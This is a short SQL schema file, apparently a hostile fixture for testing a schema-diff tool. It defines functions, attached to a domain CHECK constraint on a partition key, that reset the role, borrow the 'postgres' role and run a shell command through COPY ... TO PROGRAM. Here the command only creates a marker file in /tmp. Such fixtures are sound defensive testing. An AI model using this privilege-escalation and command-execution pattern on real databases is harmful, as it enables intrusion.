CREATE FUNCTION public.escape() RETURNS boolean LANGUAGE plpgsql VOLATILE AS $$
BEGIN
    RESET ROLE;
    EXECUTE 'COPY (SELECT current_user) TO PROGRAM ''touch /tmp/schemadiff-hostile-pwned''';
    RETURN true;
END
$$;
CREATE FUNCTION public.as_postgres() RETURNS boolean LANGUAGE sql VOLATILE SET role = 'postgres' AS 'SELECT true';
CREATE DOMAIN public.k AS text CHECK (public.escape() AND public.as_postgres());
CREATE TABLE public.p (key public.k) PARTITION BY LIST (key);
CREATE TABLE public.p1 PARTITION OF public.p FOR VALUES IN ('x');
